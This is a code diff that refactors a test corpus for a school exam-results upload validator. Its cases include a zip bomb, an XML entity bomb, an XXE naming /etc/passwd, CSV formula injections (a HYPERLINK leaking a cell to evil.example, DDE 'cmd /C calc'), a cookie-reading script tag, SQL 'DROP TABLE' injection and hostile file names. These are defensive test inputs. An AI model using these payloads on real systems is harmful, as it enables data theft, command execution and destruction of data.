@@ -255,27 +255,41 @@ class Corpus:
         self.cases.append(case)
 
 
+RESULTS_XLSX, RESULTS_CSV = f"{WORK}.xlsx", f"{WORK}.csv"
+SHEET1 = "xl/worksheets/sheet1.xml"
+
+
+def results_book(rows, **kw) -> bytes:
+    """A regional export workbook: the header, then `rows`."""
+    return xlsx_bytes([REGIONAL_HEADER, *rows], **kw)
+
+
+def results_text(rows, **kw) -> bytes:
+    """The same as CSV."""
+    return csv_bytes([REGIONAL_HEADER, *rows], **kw)
+
+
 def _results(c: Corpus) -> None:
-    xlsx, csvf = f"{WORK}.xlsx", f"{WORK}.csv"
-    header = REGIONAL_HEADER
+    """Results files, by family."""
+    _results_exhaustion(c)
+    _results_not_tables(c)
+    _results_header(c)
+    _results_names(c)
+    _results_rows(c)
+    _results_careless(c)
 
-    def book(rows, **kw) -> bytes:
-        return xlsx_bytes([header, *rows], **kw)
 
-    def text(rows, **kw) -> bytes:
-        return csv_bytes([header, *rows], **kw)
-
+def _results_exhaustion(c: Corpus) -> None:
+    """Results files: resource exhaustion."""
     add = c.add
-    base = book(pupils())
-    sheet1 = "xl/worksheets/sheet1.xml"
-    # -- resource exhaustion
+    base = results_book(pupils())
     bomb = SHEET_HEAD + b"<sheetData>" + b" " * 40_000_000 + b"</sheetData></worksheet>"
     add(
         RESULTS,
         "zip_bomb",
         REFUSED,
-        xlsx,
-        replace_parts(base, {sheet1: bomb}, level=9),
+        RESULTS_XLSX,
+        replace_parts(base, {SHEET1: bomb}, level=9),
         mentions=("FILE_LIMITS_MAX_RATIO",),
         note="a sheet of 40 MB of blanks packed into ~40 KB",
     )
@@ -283,8 +297,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "huge_declared_range",
         REFUSED,
-        xlsx,
-        replace_parts(base, {sheet1: sheet_xml([header], dimension="A1:XFD1048576")}),
+        RESULTS_XLSX,
+        replace_parts(base, {SHEET1: sheet_xml([REGIONAL_HEADER], dimension="A1:XFD1048576")}),
         mentions=("FILE_LIMITS_MAX_CELLS",),
         note="a sheet declaring 17 billion cells",
     )
@@ -292,16 +306,16 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "huge_declared_rows",
         REFUSED,
-        xlsx,
-        replace_parts(base, {sheet1: sheet_xml([header], dimension="A1:Z5000000")}),
+        RESULTS_XLSX,
+        replace_parts(base, {SHEET1: sheet_xml([REGIONAL_HEADER], dimension="A1:Z5000000")}),
         note="a sheet declaring 5 million rows",
     )
     add(
         RESULTS,
         "sheets_60",
         REFUSED,
-        xlsx,
-        book(pupils(), sheets=60),
+        RESULTS_XLSX,
+        results_book(pupils(), sheets=60),
         mentions=("FILE_LIMITS_MAX_SHEETS",),
         note="60 sheets",
     )
@@ -309,7 +323,7 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "columns_200k_csv",
         REFUSED,
-        csvf,
+        RESULTS_CSV,
         (";".join(["x"] * 200_000) + "\n").encode(),
         mentions=("FILE_LIMITS_MAX_COLUMNS",),
         note="a CSV line of 200,000 columns",
@@ -318,15 +332,15 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "columns_5000_xlsx",
         REFUSED,
-        xlsx,
-        book([[str(i) for i in range(5000)]]),
+        RESULTS_XLSX,
+        results_book([[str(i) for i in range(5000)]]),
         mentions=("FILE_LIMITS_MAX_COLUMNS",),
         note="a workbook of 5,000 columns, no declared range",
     )
     far = replace_parts(
         base,
         {
-            sheet1: SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t>'
+            SHEET1: SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t>'
             b'</is></c><c r="XFD1" t="inlineStr"><is><t>y</t></is></c></row>'
             b"</sheetData></worksheet>"
         },
@@ -335,7 +349,7 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "sparse_far_cell",
         REFUSED,
-        xlsx,
+        RESULTS_XLSX,
         far,
         mentions=("FILE_LIMITS_MAX_COLUMNS",),
         note="two cells, A1 and XFD1: the reader would allocate 16,384 columns",
@@ -344,7 +358,7 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "many_short_lines",
         REFUSED,
-        csvf,
+        RESULTS_CSV,
         b"x\n" * 30_000,
         settings={"RESULTS_MAX_ROWS": 10_000},
         note="more lines than the row limit (the limit lowered by a setting so the file stays small)",
@@ -365,8 +379,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "xml_entity_bomb",
         REFUSED,
-        xlsx,
-        replace_parts(base, {sheet1: entity_sheet}),
+        RESULTS_XLSX,
+        replace_parts(base, {SHEET1: entity_sheet}),
         note="«billion laughs»: nested XML entities in the sheet",
     )
     xxe = (
@@ -378,32 +392,37 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "xml_external_entity",
         REFUSED,
-        xlsx,
-        replace_parts(base, {sheet1: xxe}),
+        RESULTS_XLSX,
+        replace_parts(base, {SHEET1: xxe}),
         note="an external entity naming /etc/passwd: its text must never reach the data",
     )
-    # -- not a workbook / not a table
-    add(RESULTS, "empty_csv", REFUSED, csvf, b"", note="0 bytes")
-    add(RESULTS, "zero_byte_xlsx", REFUSED, xlsx, b"", note="0 bytes named .xlsx")
-    add(RESULTS, "garbage_xlsx", REFUSED, xlsx, GARBAGE, note="random bytes named .xlsx")
-    add(RESULTS, "pdf_as_xlsx", REFUSED, xlsx, PDF, note="a PDF renamed to .xlsx")
-    add(RESULTS, "png_as_csv", REFUSED, csvf, PNG, note="a PNG renamed to .csv")
-    add(RESULTS, "exe_as_xlsx", REFUSED, xlsx, EXE, note="a Windows program renamed to .xlsx")
-    add(RESULTS, "exe_as_csv", REFUSED, csvf, EXE, note="a Windows program renamed to .csv")
-    add(RESULTS, "truncated_xlsx", REFUSED, xlsx, base[: len(base) // 2], note="a workbook cut in half")
+
+
+def _results_not_tables(c: Corpus) -> None:
+    """Results files: not a workbook / not a table."""
+    add = c.add
+    base = results_book(pupils())
+    add(RESULTS, "empty_csv", REFUSED, RESULTS_CSV, b"", note="0 bytes")
+    add(RESULTS, "zero_byte_xlsx", REFUSED, RESULTS_XLSX, b"", note="0 bytes named .xlsx")
+    add(RESULTS, "garbage_xlsx", REFUSED, RESULTS_XLSX, GARBAGE, note="random bytes named .xlsx")
+    add(RESULTS, "pdf_as_xlsx", REFUSED, RESULTS_XLSX, PDF, note="a PDF renamed to .xlsx")
+    add(RESULTS, "png_as_csv", REFUSED, RESULTS_CSV, PNG, note="a PNG renamed to .csv")
+    add(RESULTS, "exe_as_xlsx", REFUSED, RESULTS_XLSX, EXE, note="a Windows program renamed to .xlsx")
+    add(RESULTS, "exe_as_csv", REFUSED, RESULTS_CSV, EXE, note="a Windows program renamed to .csv")
+    add(RESULTS, "truncated_xlsx", REFUSED, RESULTS_XLSX, base[: len(base) // 2], note="a workbook cut in half")
     add(
         RESULTS,
         "encrypted_zip",
         REFUSED,
-        xlsx,
-        stored_zip({"xl/worksheets/sheet1.xml": sheet_xml([header])}, flag_encrypted=True),
+        RESULTS_XLSX,
+        stored_zip({"xl/worksheets/sheet1.xml": sheet_xml([REGIONAL_HEADER])}, flag_encrypted=True),
         note="a zip with encrypted parts",
     )
     add(
         RESULTS,
         "password_xlsx",
         REFUSED,
-        xlsx,
+        RESULTS_XLSX,
         ole_file(["EncryptionInfo", "EncryptedPackage"]),
         note="a password-protected workbook (an OLE container)",
     )
@@ -411,104 +430,124 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "xls_as_xlsx",
         REFUSED,
-        xlsx,
+        RESULTS_XLSX,
         ole_file(["Workbook", "SummaryInformation"]),
         note="an old binary .xls renamed to .xlsx",
     )
-    chart_only = replace_parts(base, {sheet1: None, "xl/chartsheets/sheet1.xml": b"<chartsheet/>"})
-    add(RESULTS, "chart_sheet_only", REFUSED, xlsx, chart_only, note="a workbook with only a chart sheet")
+    chart_only = replace_parts(base, {SHEET1: None, "xl/chartsheets/sheet1.xml": b"<chartsheet/>"})
+    add(RESULTS, "chart_sheet_only", REFUSED, RESULTS_XLSX, chart_only, note="a workbook with only a chart sheet")
     add(
         RESULTS,
         "zip_not_workbook",
         REFUSED,
-        xlsx,
+        RESULTS_XLSX,
         stored_zip({"readme.txt": b"hello"}),
         note="a zip archive that is no workbook",
     )
-    broken_xml = replace_parts(base, {sheet1: SHEET_HEAD + b"<sheetData><row r="})
-    add(RESULTS, "broken_sheet_xml", REFUSED, xlsx, broken_xml, note="a sheet whose XML breaks off")
+    broken_xml = replace_parts(base, {SHEET1: SHEET_HEAD + b"<sheetData><row r="})
+    add(RESULTS, "broken_sheet_xml", REFUSED, RESULTS_XLSX, broken_xml, note="a sheet whose XML breaks off")
     add(
         RESULTS,
         "utf16_csv",
         EXCLUDED,
-        csvf,
-        "\ufeff".encode("utf-16-le") + text(spoil(LOGIN, "СОШ 5"), delimiter="\t").decode().encode("utf-16-le"),
+        RESULTS_CSV,
+        "\ufeff".encode("utf-16-le") + results_text(spoil(LOGIN, "СОШ 5"), delimiter="\t").decode().encode("utf-16-le"),
         cells=[(2, "логин школы")],
         note="Excel's «Unicode text»: UTF-16 with a BOM, tab-separated",
     )
-    add(RESULTS, "nul_bytes_csv", REFUSED, csvf, text(pupils()).replace(b"\n", b"\x00\n", 2), note="NUL bytes")
+    add(
+        RESULTS,
+        "nul_bytes_csv",
+        REFUSED,
+        RESULTS_CSV,
+        results_text(pupils()).replace(b"\n", b"\x00\n", 2),
+        note="NUL bytes",
+    )
     add(
         RESULTS,
         "nul_after_8k_csv",
         REFUSED,
-        csvf,
-        text(pupils(100)) + b"sch220001;\x00;\x00\n",
+        RESULTS_CSV,
+        results_text(pupils(100)) + b"sch220001;\x00;\x00\n",
         note="NUL bytes past the first 8 KB",
     )
     add(
         RESULTS,
         "unknown_encoding_csv",
         REFUSED,
-        csvf,
-        text(pupils()) + b"\x98\x98\x81\n",
+        RESULTS_CSV,
+        results_text(pupils()) + b"\x98\x98\x81\n",
         note="bytes that are neither UTF-8 nor Windows-1251",
     )
     add(
         RESULTS,
         "unbalanced_quote_csv",
         REFUSED,
-        csvf,
-        text(pupils()).replace(b"sch220002", b'"sch220002', 1),
+        RESULTS_CSV,
+        results_text(pupils()).replace(b"sch220002", b'"sch220002', 1),
         note="an opening quote that never closes swallows the rest of the file",
     )
     add(RESULTS, "docx_extension", REFUSED, f"{WORK}.docx", b"PK\x03\x04", note="an unsupported extension")
-    add(RESULTS, "no_extension", REFUSED, WORK, text(pupils()), note="a file without an extension")
+    add(RESULTS, "no_extension", REFUSED, WORK, results_text(pupils()), note="a file without an extension")
     add(
         RESULTS,
         "first_sheet_empty",
         REFUSED,
-        xlsx,
-        xlsx_bytes([header, *pupils()], sheets=2, data_sheet=1),
+        RESULTS_XLSX,
+        xlsx_bytes([REGIONAL_HEADER, *pupils()], sheets=2, data_sheet=1),
         note="the first sheet is empty, the data on the second",
     )
-    add(RESULTS, "only_delimiters_csv", REFUSED, csvf, b";;;;\n;;;;\n \n", note="lines of delimiters and blanks")
-    # -- structure: header
-    add(RESULTS, "header_only", REFUSED, csvf, text([]), note="a header and no rows")
-    add(RESULTS, "header_only_xlsx", REFUSED, xlsx, book([]), note="a workbook with a header and no rows")
-    add(RESULTS, "header_missing", REFUSED, csvf, csv_bytes(pupils()), note="rows without a header")
+    add(RESULTS, "only_delimiters_csv", REFUSED, RESULTS_CSV, b";;;;\n;;;;\n \n", note="lines of delimiters and blanks")
+
+
+def _results_header(c: Corpus) -> None:
+    """Results files: structure: header."""
+    add = c.add
+    add(RESULTS, "header_only", REFUSED, RESULTS_CSV, results_text([]), note="a header and no rows")
+    add(
+        RESULTS,
+        "header_only_xlsx",
+        REFUSED,
+        RESULTS_XLSX,
+        results_book([]),
+        note="a workbook with a header and no rows",
+    )
+    add(RESULTS, "header_missing", REFUSED, RESULTS_CSV, csv_bytes(pupils()), note="rows without a header")
     add(
         RESULTS,
         "header_below_search",
         REFUSED,
-        csvf,
-        csv_bytes([["Выгрузка"]] * 20 + [header, *pupils()]),
+        RESULTS_CSV,
+        csv_bytes([["Выгрузка"]] * 20 + [REGIONAL_HEADER, *pupils()]),
         note="the header under 20 title lines",
     )
     add(
         RESULTS,
         "header_required_missing",
         REFUSED,
-        csvf,
-        csv_bytes([[h for h in header if h != "вариант"], *[r[:VARIANT] + r[VARIANT + 1 :] for r in pupils()]]),
+        RESULTS_CSV,
+        csv_bytes(
+            [[h for h in REGIONAL_HEADER if h != "вариант"], *[r[:VARIANT] + r[VARIANT + 1 :] for r in pupils()]]
+        ),
         mentions=("вариант",),
         note="the «вариант» column is missing",
     )
-    dup_total = [*header[:9], "всего баллов", *header[9:]]
+    dup_total = [*REGIONAL_HEADER[:9], "всего баллов", *REGIONAL_HEADER[9:]]
     add(
         RESULTS,
         "duplicate_total_column",
         REFUSED,
-        csvf,
+        RESULTS_CSV,
         csv_bytes([dup_total, *[[*r[:9], "0", *r[9:]] for r in pupils()]]),
         mentions=("всего баллов",),
         note="two «всего баллов» columns: which one is meant?",
     )
-    dup_task = [*header, "балл за 3"]
+    dup_task = [*REGIONAL_HEADER, "балл за 3"]
     add(
         RESULTS,
         "duplicate_task_column",
         REFUSED,
-        csvf,
+        RESULTS_CSV,
         csv_bytes([dup_task, *[[*r, "1"] for r in pupils()]]),
         mentions=("балл за 3",),
         note="«балл за 3» twice",
@@ -517,8 +556,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "task_columns_missing",
         REFUSED,
-        csvf,
-        csv_bytes([header[:-3] + header[-1:], *[r[:-3] + r[-1:] for r in pupils()]]),
+        RESULTS_CSV,
+        csv_bytes([REGIONAL_HEADER[:-3] + REGIONAL_HEADER[-1:], *[r[:-3] + r[-1:] for r in pupils()]]),
         note="13 scoring columns where the work has 15",
     )
     add(
@@ -526,7 +565,7 @@ def _results(c: Corpus) -> None:
         "title_unknown_work",
         REFUSED,
         "выгрузка.csv",
-        text(pupils()),
+        results_text(pupils()),
         note="neither the name nor a title says which work",
     )
     add(
@@ -561,7 +600,12 @@ def _results(c: Corpus) -> None:
         mentions=("sch229999",),
         note="a school export of a school the registry does not know",
     )
-    # -- hostile names (the browser sends them; the command line gets a file on disk)
+
+
+def _results_names(c: Corpus) -> None:
+    """Results files: hostile names (the browser sends them; the command line gets a file on disk)."""
+    add = c.add
+    base = results_book(pupils())
     add(
         RESULTS,
         "name_path_traversal",
@@ -585,7 +629,7 @@ def _results(c: Corpus) -> None:
         "name_300_chars",
         REFUSED,
         "Ж" * 120 + ".csv",
-        text(pupils()),
+        results_text(pupils()),
         upload_name="Ж" * 300 + ".csv",
         note="a 300-character name",
     )
@@ -594,7 +638,7 @@ def _results(c: Corpus) -> None:
         "name_markup",
         REFUSED,
         "script.csv",
-        text(pupils()),
+        results_text(pupils()),
         upload_name="<script>alert(1)</script>.csv",
         note="markup in the name",
     )
@@ -603,17 +647,21 @@ def _results(c: Corpus) -> None:
         "name_rtl_override",
         REFUSED,
         "report.csv",
-        text(pupils()),
+        results_text(pupils()),
         upload_name="отчёт\u202excsl.csv",
         note="a right-to-left override hiding the real extension",
     )
-    # -- rows: cells and values (excluded with row and column named)
+
+
+def _results_rows(c: Corpus) -> None:
+    """Results files: rows: cells and values (excluded with row and column named)."""
+    add = c.add
     add(
         RESULTS,
         "formula_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "=1+1")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "=1+1")),
         cells=[(2, "логин школы")],
         note="a formula as a login",
     )
@@ -621,8 +669,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "formula_hyperlink_code",
         EXCLUDED,
-        csvf,
-        text(spoil(CODE, '=HYPERLINK("http://evil.example/?"&A1,"нажмите")')),
+        RESULTS_CSV,
+        results_text(spoil(CODE, '=HYPERLINK("http://evil.example/?"&A1,"нажмите")')),
         cells=[(2, "код обучающегося")],
         note="a link formula as a participant code",
     )
@@ -630,8 +678,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "formula_dde_score",
         EXCLUDED,
-        csvf,
-        text(spoil(task(1), "+cmd|' /C calc'!A0")),
+        RESULTS_CSV,
+        results_text(spoil(task(1), "+cmd|' /C calc'!A0")),
         cells=[(2, "балл за 1")],
         note="a DDE payload as a score",
     )
@@ -639,8 +687,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "formula_at_total",
         EXCLUDED,
-        csvf,
-        text(spoil(TOTAL, "@SUM(1+1)*cmd|' /C calc'!A0")),
+        RESULTS_CSV,
+        results_text(spoil(TOTAL, "@SUM(1+1)*cmd|' /C calc'!A0")),
         cells=[(2, "всего баллов")],
         note="an @-formula as the total",
     )
@@ -648,8 +696,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "formula_cells_xlsx",
         EXCLUDED,
-        xlsx,
-        book(pupils(), formulas={(1, LOGIN): ('=HYPERLINK("http://evil.example","sch220001")', "=evil")}),
+        RESULTS_XLSX,
+        results_book(pupils(), formulas={(1, LOGIN): ('=HYPERLINK("http://evil.example","sch220001")', "=evil")}),
         cells=[(2, "логин школы")],
         note="a real formula cell whose cached value is text",
     )
@@ -657,8 +705,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "html_script_code",
         EXCLUDED,
-        csvf,
-        text(spoil(CODE, "<script>alert(document.cookie)</script>")),
+        RESULTS_CSV,
+        results_text(spoil(CODE, "<script>alert(document.cookie)</script>")),
         cells=[(2, "код обучающегося")],
         note="markup as a participant code",
     )
@@ -666,8 +714,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "sql_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "sch220001'; DROP TABLE orgs_school; --")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "sch220001'; DROP TABLE orgs_school; --")),
         cells=[(2, "логин школы")],
         note="SQL in a login",
     )
@@ -675,8 +723,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "sql_code",
         EXCLUDED,
-        csvf,
-        text(spoil(CODE, "1 OR 1=1; --")),
+        RESULTS_CSV,
+        results_text(spoil(CODE, "1 OR 1=1; --")),
         cells=[(2, "код обучающегося")],
         note="SQL as a participant code",
     )
@@ -684,8 +732,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "cell_100k",
         EXCLUDED,
-        csvf,
-        text(spoil(CODE, "4" * 100_000)),
+        RESULTS_CSV,
+        results_text(spoil(CODE, "4" * 100_000)),
         cells=[(2, "код обучающегося")],
         note="a 100 KB participant code",
     )
@@ -693,8 +741,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "cell_100k_xlsx",
         EXCLUDED,
-        xlsx,
-        book(spoil(LOGIN, "sch" + "я" * 100_000)),
+        RESULTS_XLSX,
+        results_book(spoil(LOGIN, "sch" + "я" * 100_000)),
         cells=[(2, "логин школы")],
         note="a 100 KB login in a workbook",
     )
@@ -702,8 +750,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "very_long_line",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "x" * 300_000, row=3)),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "x" * 300_000, row=3)),
         cells=[(3, "логин школы")],
         note="a 300 KB line",
     )
@@ -711,8 +759,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "other_region_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "sch540001")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "sch540001")),
         cells=[(2, "логин школы")],
         note="a school of another region",
     )
@@ -720,8 +768,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "malformed_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "СОШ №5")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "СОШ №5")),
         cells=[(2, "логин школы")],
         note="a school name where the login belongs",
     )
@@ -729,8 +777,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "homoglyph_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "s\u0441h220001")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "s\u0441h220001")),
         cells=[(2, "логин школы")],
         note="a Cyrillic «с» inside a Latin login",
     )
@@ -738,8 +786,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "zero_width_login",
         EXCLUDED,
-        csvf,
-        text(spoil(LOGIN, "sch220001\u200b")),
+        RESULTS_CSV,
+        results_text(spoil(LOGIN, "sch220001\u200b")),
         cells=[(2, "логин школы")],
         note="a zero-width space after the login",
     )
@@ -750,8 +798,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "duplicate_code",
         EXCLUDED,
-        csvf,
-        text(dup),
+        RESULTS_CSV,
+        results_text(dup),
         cells=[(4, "код обучающегося")],
         note="a participant code twice in one school",
     )
@@ -759,8 +807,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "empty_code",
         EXCLUDED,
-        csvf,
-        text(spoil(CODE, "")),
+        RESULTS_CSV,
+        results_text(spoil(CODE, "")),
         cells=[(2, "код обучающегося")],
         note="no participant code",
     )
@@ -779,7 +827,15 @@ def _results(c: Corpus) -> None:
         ("score_overflow", "9" * 30, "балл за 1", "a number beyond 64 bits"),
     ):
         column_index = task(int(column.split()[-1]))
-        add(RESULTS, name, EXCLUDED, csvf, text(spoil(column_index, value)), cells=[(2, column)], note=note)
+        add(
+            RESULTS,
+            name,
+            EXCLUDED,
+            RESULTS_CSV,
+            results_text(spoil(column_index, value)),
+            cells=[(2, column)],
+            note=note,
+        )
     for name, value, note in (
         ("total_negative", "-3", "a negative total"),
         ("total_huge", "100000", "a total above any work's maximum"),
@@ -792,15 +848,23 @@ def _results(c: Corpus) -> None:
         ("total_nan", "NaN", "«NaN»"),
         ("total_hex", "0x10", "a hexadecimal number"),
     ):
-        add(RESULTS, name, EXCLUDED, csvf, text(spoil(TOTAL, value)), cells=[(2, "всего баллов")], note=note)
+        add(
+            RESULTS,
+            name,
+            EXCLUDED,
+            RESULTS_CSV,
+            results_text(spoil(TOTAL, value)),
+            cells=[(2, "всего баллов")],
+            note=note,
+        )
     mismatch = pupils()
     mismatch[1][TOTAL] = str(int(mismatch[1][TOTAL]) + 1)
     add(
         RESULTS,
         "total_mismatch",
         EXCLUDED,
-        csvf,
-        text(mismatch),
+        RESULTS_CSV,
+        results_text(mismatch),
         cells=[(3, "всего баллов")],
         note="a total that is not the sum of the scores",
     )
@@ -811,8 +875,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "absent_with_scores",
         EXCLUDED,
-        csvf,
-        text(absent),
+        RESULTS_CSV,
+        results_text(absent),
         cells=[(2, "вариант")],
         note="marked absent, yet scored",
     )
@@ -822,8 +886,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "absent_with_total",
         EXCLUDED,
-        csvf,
-        text(absent_total),
+        RESULTS_CSV,
+        results_text(absent_total),
         cells=[(2, "вариант")],
         note="marked absent, yet a total",
     )
@@ -833,8 +897,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "present_without_total",
         EXCLUDED,
-        csvf,
-        text(no_total),
+        RESULTS_CSV,
+        results_text(no_total),
         cells=[(3, "всего баллов")],
         note="a variant and scores, but no total",
     )
@@ -845,8 +909,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "unknown_task_code",
         EXCLUDED,
-        csvf,
-        text(codes),
+        RESULTS_CSV,
+        results_text(codes),
         cells=[(2, "балл за 2", False)],
         note="«H» in a task column: counted as not attempted, with a warning",
     )
@@ -854,18 +918,18 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "footer_junk",
         EXCLUDED,
-        csvf,
-        text(pupils()) + "Итого строк: 4\n-- конец выгрузки --\n".encode(),
+        RESULTS_CSV,
+        results_text(pupils()) + "Итого строк: 4\n-- конец выгрузки --\n".encode(),
         cells=[(6, None, False), (7, None, False)],
         note="lines after the data",
     )
-    concatenated = [*pupils(2), header, *pupils(2)[::-1]]
+    concatenated = [*pupils(2), REGIONAL_HEADER, *pupils(2)[::-1]]
     add(
         RESULTS,
         "concatenated_exports",
         EXCLUDED,
-        csvf,
-        text(concatenated),
+        RESULTS_CSV,
+        results_text(concatenated),
         cells=[(4, "логин школы"), (5, "код обучающегося"), (6, "код обучающегося")],
         note="two exports pasted together: the second header is a row, the second pupils repeat the first",
     )
@@ -875,17 +939,17 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "ragged_rows",
         EXCLUDED,
-        csvf,
-        text(ragged),
+        RESULTS_CSV,
+        results_text(ragged),
         cells=[(3, "всего баллов")],
         note="a row cut short after «балл за 3»",
     )
-    mixed = text(pupils(2)) + csv_bytes(pupils(4)[2:], delimiter=",")
+    mixed = results_text(pupils(2)) + csv_bytes(pupils(4)[2:], delimiter=",")
     add(
         RESULTS,
         "mixed_delimiters",
         EXCLUDED,
-        csvf,
+        RESULTS_CSV,
         mixed,
         cells=[(4, "логин школы"), (5, "логин школы")],
         note="the last rows separated by commas",
@@ -894,8 +958,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "columns_on_a_later_line",
         REFUSED,
-        csvf,
-        text(pupils(2)) + (";".join(["1"] * 200_000) + "\n").encode(),
+        RESULTS_CSV,
+        results_text(pupils(2)) + (";".join(["1"] * 200_000) + "\n").encode(),
         mentions=("FILE_LIMITS_MAX_COLUMNS",),
         note="an ordinary header, then a line of 200,000 columns",
     )
@@ -903,8 +967,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "blank_row_inside_xlsx",
         EXCLUDED,
-        xlsx,
-        book([*pupils(2), [], ["", "  "], pupil(3, login="СОШ 5"), pupil(4)]),
+        RESULTS_XLSX,
+        results_book([*pupils(2), [], ["", "  "], pupil(3, login="СОШ 5"), pupil(4)]),
         cells=[(6, "логин школы")],
         note="blank rows between the pupils (no pupils; the rows after them keep their numbers)",
     )
@@ -913,18 +977,22 @@ def _results(c: Corpus) -> None:
         "name_long_cyrillic",
         EXCLUDED,
         WORK + " (" + "выгрузка " * 9 + ").csv",
-        text(spoil(LOGIN, "СОШ 5")),
+        results_text(spoil(LOGIN, "СОШ 5")),
         cells=[(2, "логин школы")],
         note="a long Cyrillic name (about 240 bytes) that still names the work",
     )
-    # -- careless but readable files: the quirk is tolerated and the one bad row is still found at its line
+
+
+def _results_careless(c: Corpus) -> None:
+    """Results files: careless but readable files: the quirk is tolerated and the one bad row is still found at its line."""
+    add = c.add
     careless = spoil(LOGIN, "СОШ 5", row=3)
     add(
         RESULTS,
         "bom_crlf_csv",
         EXCLUDED,
-        csvf,
-        b"\xef\xbb\xbf" + text(careless, newline="\r\n"),
+        RESULTS_CSV,
+        b"\xef\xbb\xbf" + results_text(careless, newline="\r\n"),
         cells=[(3, "логин школы")],
         note="a BOM and Windows line ends",
     )
@@ -932,27 +1000,35 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "cp1251_csv",
         EXCLUDED,
-        csvf,
-        text(careless, encoding="cp1251"),
+        RESULTS_CSV,
+        results_text(careless, encoding="cp1251"),
         cells=[(3, "логин школы")],
         note="Windows-1251",
     )
-    add(RESULTS, "comma_csv", EXCLUDED, csvf, text(careless, delimiter=","), cells=[(3, "логин школы")], note="commas")
+    add(
+        RESULTS,
+        "comma_csv",
+        EXCLUDED,
+        RESULTS_CSV,
+        results_text(careless, delimiter=","),
+        cells=[(3, "логин школы")],
+        note="commas",
+    )
     add(
         RESULTS,
         "blank_lines_csv",
         EXCLUDED,
-        csvf,
-        text(careless[:1]) + b"\n\n" + csv_bytes(careless[1:]),
+        RESULTS_CSV,
+        results_text(careless[:1]) + b"\n\n" + csv_bytes(careless[1:]),
         cells=[(5, "логин школы")],
         note="blank lines between the rows (row numbers must count them)",
     )
-    reordered = [header[::-1], *[r[::-1] for r in careless]]
+    reordered = [REGIONAL_HEADER[::-1], *[r[::-1] for r in careless]]
     add(
         RESULTS,
         "columns_reordered",
         EXCLUDED,
-        csvf,
+        RESULTS_CSV,
         csv_bytes(reordered),
         cells=[(3, "логин школы")],
         note="the columns in reverse order",
@@ -961,8 +1037,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "shifted_header_xlsx",
         EXCLUDED,
-        xlsx,
-        xlsx_bytes([["Выгрузка ФИС ОКО"], [], [None, None], header, *careless]),
+        RESULTS_XLSX,
+        xlsx_bytes([["Выгрузка ФИС ОКО"], [], [None, None], REGIONAL_HEADER, *careless]),
         cells=[(6, "логин школы")],
         note="the header on row 4 under a title and blank rows",
     )
@@ -970,8 +1046,8 @@ def _results(c: Corpus) -> None:
         RESULTS,
         "cell_types_xlsx",
         EXCLUDED,
-        xlsx,
-        xlsx_bytes([header, *[[*(int(v) if v.isdigit() else v for v in r)] for r in careless]]),
+        RESULTS_XLSX,
+        xlsx_bytes([REGIONAL_HEADER, *[[*(int(v) if v.isdigit() else v for v in r)] for r in careless]]),
         cells=[(3, "логин школы")],
         note="numbers stored as numbers, not text",
     )
